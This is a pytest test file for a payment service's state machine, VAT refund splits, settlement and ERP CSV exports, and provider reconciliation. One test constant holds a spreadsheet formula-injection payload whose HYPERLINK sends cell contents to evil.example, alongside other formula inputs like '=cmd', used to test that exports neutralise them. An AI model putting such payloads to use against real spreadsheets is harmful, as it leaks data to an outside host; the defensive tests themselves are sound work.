"""Payment states, ledger splits, refund limits and report arithmetic (pure)."""

from __future__ import annotations

import csv
import io
import typing
import uuid
from datetime import UTC, date, datetime, timedelta

import pytest

from services.payment.domain import model
from services.payment.domain.ledger import (
    RefundSplit,
    check_refund,
    refund_entries,
    refund_splits,
    sale_entries,
    vat_share,
)
from services.payment.domain.orders import check_payable
from services.payment.domain.reports import (
    Entry,
    allocate,
    check_day_ended,
    erp_csv,
    erp_rows,
    reconcile,
    settlement_csv,
    settlement_rows,
)
from shared.contracts.cart import (
    AccountingDimensions,
    OrderForPayment,
    OrderLineSnapshot,
    RefundLine,
)
from shared.contracts.payment import BalanceTransactionView, PaymentState
from shared.errors import Conflict, Gone, ValidationFailed

DIMS = AccountingDimensions(
    company_code="1000", gl_account="320000", profit_centre="PC-SPORT", vat_code="S3"
)


def line(gross: int, vat: int, rate: int = 1350, merchant: str = "sports") -> OrderLineSnapshot:
    return OrderLineSnapshot(
        line_id=uuid.uuid4(),
        kind="reservation",
        reference="r",
        description="Impivaara swimming lane",
        merchant_id=merchant,
        cost_centre="1310",
        gross_cents=gross,
        net_cents=gross - vat,
        vat_cents=vat,
        vat_rate_bp=rate,
        accounting=DIMS,
    )


STATES = ("created", "pending", "succeeded", "failed", "cancelled", "expired")
CAUSES = (
    "provider_session_opened",
    "provider_paid",
    "provider_declined",
    "resident_abandoned",
    "window_closed",
    "provider_error",
    "superseded",
    "payer_cancelled",
)
X = Conflict  # not an edge: the payment cannot take this cause
_ = None  # late or repeated news: changes nothing

# Written out by hand, one row per state, one column per cause (in the order of CAUSES):
# a wrong edge in model.py fails the test below.
EXPECTED: dict[str, tuple[object, ...]] = {
    # columns: opened, paid, declined, abandoned, window_closed, error, superseded,
    # payer_cancelled
    "created": ("pending", X, X, X, "expired", "failed", "cancelled", X),
    "pending": (X, "succeeded", "failed", "cancelled", "expired", X, "cancelled", "cancelled"),
    "succeeded": (X, _, _, _, _, X, X, _),
    "failed": (X, "succeeded", _, _, _, X, _, "cancelled"),
    "cancelled": (X, "succeeded", _, _, _, X, _, _),
    "expired": (X, "succeeded", _, _, _, X, _, _),
}


@pytest.mark.parametrize("state", STATES)
@pytest.mark.parametrize("cause", CAUSES)
def test_every_state_and_cause_of_the_payment_state_machine(state: str, cause: str) -> None:
    expected = EXPECTED[state][CAUSES.index(cause)]
    if expected is Conflict:
        with pytest.raises(Conflict):
            model.next_state(state, cause)  # type: ignore[arg-type]
    else:
        assert model.next_state(state, cause) == expected  # type: ignore[arg-type]


def test_the_expected_table_covers_exactly_the_model() -> None:
    assert set(typing.get_args(model.Cause)) == set(CAUSES)
    assert set(typing.get_args(PaymentState)) == set(STATES)
    edges = {
        (s, c)
        for s in STATES
        for c in CAUSES
        if EXPECTED[s][CAUSES.index(c)] not in (Conflict, None)
    }
    assert edges == set(model.TRANSITIONS)
    assert model.TRANSITIONS.keys().isdisjoint(model.IGNORED)


def test_late_failure_after_success_changes_nothing() -> None:
    assert model.next_state("succeeded", "provider_declined") is None
    assert model.next_state("succeeded", "window_closed") is None


def test_payment_after_a_decline_or_expiry_still_succeeds() -> None:
    assert model.next_state("failed", "provider_paid") == "succeeded"
    assert model.next_state("expired", "provider_paid") == "succeeded"


def test_an_edge_not_in_the_table_is_a_conflict() -> None:
    with pytest.raises(Conflict):
        model.next_state("created", "provider_paid")


def test_a_reported_amount_or_currency_other_than_the_payments_does_not_match() -> None:
    assert model.reported_amount_matches(1540, "EUR", 1540, "eur")
    assert model.reported_amount_matches(1540, "EUR", None, None)
    assert not model.reported_amount_matches(1540, "EUR", 1539, "eur")
    assert not model.reported_amount_matches(1540, "EUR", 1540, "sek")


def test_failure_reasons_follow_the_end_state() -> None:
    assert model.failure_reason("failed", "provider_declined") == "declined"
    assert model.failure_reason("cancelled", "resident_abandoned") == "abandoned"
    assert model.failure_reason("expired", "window_closed") == "expired"
    assert model.failure_reason("cancelled", "superseded") == "cancelled"


def test_sale_entries_copy_the_snapshot_and_sum_to_the_payment() -> None:
    lines = [line(2000, 238), line(550, 0, rate=0, merchant="library")]
    entries = sale_entries(lines, date(2026, 11, 23))
    assert sum(e.gross_cents for e in entries) == 2550
    assert [e.merchant_id for e in entries] == ["sports", "library"]
    assert all(e.gross_cents == e.net_cents + e.vat_cents for e in entries)


def refund_of(a: OrderLineSnapshot, *amounts: int) -> list[RefundSplit]:
    """Successive refunds of one line; each sees the ones before it."""
    done: list[RefundSplit] = []
    for amount in amounts:
        taken = RefundSplit(
            a.line_id, sum(s.gross_cents for s in done), sum(s.vat_cents for s in done)
        )
        already = {a.line_id: taken} if done else {}
        [split] = refund_splits([a], already, [RefundLine(line_id=a.line_id, amount_cents=amount)])
        done.append(split)
    return done


def test_partial_refund_splits_vat_in_the_line_proportion() -> None:
    a = line(2000, 238)
    [split] = refund_of(a, 1000)
    [entry] = refund_entries([a], [split], date.today())
    assert (entry.gross_cents, entry.vat_cents, entry.net_cents) == (-1000, -119, -881)
    assert vat_share(a, 2000) == 238


@pytest.mark.parametrize(
    ("gross", "vat", "amounts"),
    [
        (1000, 203, (333, 333, 334)),  # 25.5 %: thirds would round 67.6 -> 68 three times
        (4, 2, (1, 1, 1, 1)),  # half cents: rounding each part up would take 4 of 2 VAT
        (2000, 238, (1, 1999)),
        (999, 119, (500, 499)),
    ],
)
def test_refunds_that_exhaust_a_line_sum_exactly_to_its_gross_vat_and_net(
    gross: int, vat: int, amounts: tuple[int, ...]
) -> None:
    a = line(gross, vat)
    splits = refund_of(a, *amounts)
    entries = refund_entries([a], splits, date.today())
    assert sum(e.gross_cents for e in entries) == -gross
    assert sum(e.vat_cents for e in entries) == -vat
    assert sum(e.net_cents for e in entries) == -(gross - vat)
    running = 0
    for s in splits:  # never more VAT than the line had at any point
        running += s.vat_cents
        assert s.vat_cents >= 0
        assert running <= vat


def test_refund_never_exceeds_what_the_line_paid() -> None:
    a = line(2000, 238)
    assert check_refund([a], {a.line_id: 500}, [RefundLine(line_id=a.line_id, amount_cents=1500)])
    with pytest.raises(ValidationFailed) as error:
        check_refund([a], {a.line_id: 500}, [RefundLine(line_id=a.line_id, amount_cents=1501)])
    assert error.value.field == "lines[0].amount_cents"


def test_refund_of_an_unknown_line_is_refused() -> None:
    with pytest.raises(ValidationFailed) as error:
        check_refund([line(100, 0)], {}, [RefundLine(line_id=uuid.uuid4(), amount_cents=1)])
    assert error.value.field == "lines[0].line_id"


def test_allocate_keeps_every_cent() -> None:
    assert sum(allocate(53, [2000, 550, 333])) == 53
    assert allocate(10, [1, 1]) == [5, 5]
    assert allocate(5, []) == []


def test_settlement_rows_group_by_cost_centre_and_rate() -> None:
    rows = settlement_rows(
        [
            Entry("sale", "sports", "1310", 1350, 2000, 238, 1762, fee_cents=53),
            Entry("sale", "sports", "1310", 1350, 1000, 119, 881, fee_cents=39),
            Entry("refund", "sports", "1310", 1350, -1000, -119, -881),
        ]
    )
    [row] = rows
    assert (row.gross_cents, row.refunded_gross_cents, row.fee_cents) == (3000, 1000, 92)


def test_erp_rows_keep_refunds_apart_and_the_file_is_stable() -> None:
    entries = [
        Entry("sale", "s", "c", 1350, 2000, 238, 1762, "1000", "320000", "PC", "IO1", "S3"),
        Entry("refund", "s", "c", 1350, -1000, -119, -881, "1000", "320000", "PC", "IO1", "S3"),
    ]
    rows = erp_rows(entries)
    assert [r.kind for r in rows] == ["refund", "sale"]
    assert erp_csv("2026-11-23", rows) == erp_csv("2026-11-23", erp_rows(reversed(entries)))
    assert "-8.81;-1.19" in erp_csv("2026-11-23", rows)


FORGING_CENTRE = 'KM";=HYPERLINK("https://evil.example/?"&A1,"open")\nFORGED;99.00'


def cells(text: str) -> list[list[str]]:
    """A CSV file as a spreadsheet reads it (`;`, RFC 4180 quoting)."""
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_a_cost_centre_cannot_forge_a_settlement_row_or_a_formula() -> None:
    forged = settlement_rows(
        [
            Entry("sale", "gis", FORGING_CENTRE, 2550, 1255, 255, 1000),
            Entry("sale", "gis", "=1+2", 2550, 1255, 255, 1000),
            Entry("sale", "gis", "@SUM(A1)", 2550, 1255, 255, 1000),
            Entry("refund", "gis", "\t-1+1", 2550, -1255, -255, -1000),
        ]
    )
    header, *rows = cells(settlement_csv("2026-11-23", "gis", forged))
    assert len(header) == 11
    assert len(rows) == 4  # one per cost centre, no forged row
    assert all(len(row) == 11 for row in rows)
    by_centre = {row[2]: row for row in rows}
    assert FORGING_CENTRE in by_centre  # one cell, quoted, starting as text ("KM")
    assert {"'=1+2", "'@SUM(A1)", "'\t-1+1"} <= by_centre.keys()
    assert by_centre["'\t-1+1"][7] == "12.55"  # refunded gross, as a number


def test_the_erp_file_neutralises_formula_text_and_keeps_negative_amounts() -> None:
    entries = [
        Entry("sale", "s", "c", 1350, 2000, 238, 1762, "=cmd", "+320000", "-PC", "@IO", "S3"),
        Entry("refund", "s", "c", 1350, -1000, -119, -881, "=cmd", "+320000", "-PC", "@IO", "S3"),
    ]
    header, *rows = cells(erp_csv("2026-11-23", erp_rows(entries)))
    assert header[:3] == ["posting_date", "company_code", "profit_centre"]
    refund, sale = rows
    assert refund[1:6] == ["'=cmd", "'-PC", "'+320000", "S3", "'@IO"]
    assert refund[7:] == ["-8.81", "-1.19", "EUR"]
    assert sale[7:] == ["17.62", "2.38", "EUR"]


def test_reconciliation_lists_every_kind_of_mismatch() -> None:
    now = datetime.now(UTC)

    def txn(source: str, amount: int, fee: int = 0) -> BalanceTransactionView:
        return BalanceTransactionView(
            id=f"t{source}",
            type="charge",
            source=source,
            amount_cents=amount,
            fee_cents=fee,
            net_cents=amount - fee,
            created=now,
            payout_id="po1",
        )

    result = reconcile(
        {"a": 1000, "b": 500, "c": 300},
        [txn("a", 1000, 39), txn("b", 499), txn("x", 100)],
        [("po1", 1000 - 39 + 499 + 100)],
    )
    assert [i.reference for i in result.matched] == ["a"]
    assert [i.reference for i in result.amount_mismatches] == ["b"]
    assert [i.reference for i in result.missing_at_provider] == ["c"]
    assert [i.reference for i in result.missing_in_ledger] == ["x"]
    assert result.fees_cents == 39
    assert result.payouts[0].matches


def test_money_that_went_and_came_back_under_one_reference_reconciles_as_one_item() -> None:
    """A won dispute (withdrawn, then reinstated) and a failed refund (refund, then its
    refund_failure) are two provider transactions of one reference that net to nothing."""
    now = datetime.now(UTC)

    def txn(source: str, amount: int, kind: str, fee: int = 0) -> BalanceTransactionView:
        return BalanceTransactionView(
            id=f"t{source}{kind}",
            type=kind,
            source=source,
            amount_cents=amount,
            fee_cents=fee,
            net_cents=amount - fee,
            created=now,
            payout_id="po1",
        )

    provider = [
        txn("pi_1", 5000, "charge", 100),
        txn("du_1", -5000, "adjustment", 1500),  # the dispute fee stays with the provider
        txn("du_1", 5000, "adjustment"),
        txn("re_1", -1200, "refund"),
        txn("re_1", 1200, "refund_failure"),
        txn("re_2", -700, "refund"),
    ]
    # The ledger: the sale, the dispute's -X and +X (0), no entry of the failed refund.
    result = reconcile(
        {"pi_1": 5000, "du_1": 0, "re_2": -700},
        provider,
        [("po1", 5000 - 100 - 5000 - 1500 + 5000 - 1200 + 1200 - 700)],
    )
    assert result.amount_mismatches == []
    assert result.missing_in_ledger == []
    assert result.missing_at_provider == []
    assert {i.reference: i.provider_cents for i in result.matched} == {
        "pi_1": 5000,
        "du_1": 0,
        "re_1": 0,
        "re_2": -700,
    }
    assert {i.reference: i.fee_cents for i in result.matched}["du_1"] == 1500
    assert result.fees_cents == 1600
    assert result.payouts[0].matches
    # A reference whose transactions do not net to what the ledger says is still one item.
    half = reconcile({"du_1": 0}, [txn("du_1", -5000, "adjustment")])
    assert [(i.reference, i.ledger_cents, i.provider_cents) for i in half.amount_mismatches] == [
        ("du_1", 0, -5000)
    ]


def order(**changes: object) -> OrderForPayment:
    a = line(2000, 238)
    values: dict[str, object] = {
        "order_id": uuid.uuid4(),
        "order_number": "TKU-1",
        "customer": "resident-aino",
        "state": "awaiting_payment",
        "total_cents": 2000,
        "reference_number": "12344",
        "sale_date": date.today(),
        "payment_deadline": datetime.now(UTC) + timedelta(minutes=30),
        "lines": [a],
    }
    values.update(changes)
    return OrderForPayment(**values)  # type: ignore[arg-type]


def test_only_an_order_awaiting_payment_within_its_window_is_payable() -> None:
    check_payable(order())
    for state, reason in (("paid", "paid"), ("fulfilled", "paid"), ("cancelled", "cancelled")):
        with pytest.raises(Conflict) as refused:
            check_payable(order(state=state))
        assert refused.value.details == {"field": "order_id", "reason": reason}  # pages say it
    with pytest.raises(Gone) as closed:
        check_payable(order(payment_deadline=datetime.now(UTC) - timedelta(seconds=1)))
    assert closed.value.details == {"field": "order_id", "reason": "window_closed"}
    with pytest.raises(ValidationFailed) as error:
        check_payable(order(total_cents=2001))
    assert error.value.field == "order_id"


def test_a_window_that_closes_before_the_deadline_refuses_a_late_start() -> None:
    check_payable(order(), closes_before=timedelta(minutes=29))
    with pytest.raises(Gone):
        check_payable(order(), closes_before=timedelta(minutes=31))


def test_the_erp_export_of_a_day_not_ended_in_helsinki_is_refused() -> None:
    check_day_ended(date(2026, 11, 30), date(2026, 12, 1))
    for day in (date(2026, 12, 1), date(2026, 12, 2)):
        with pytest.raises(ValidationFailed) as error:
            check_day_ended(day, date(2026, 12, 1))
        assert error.value.field == "day"
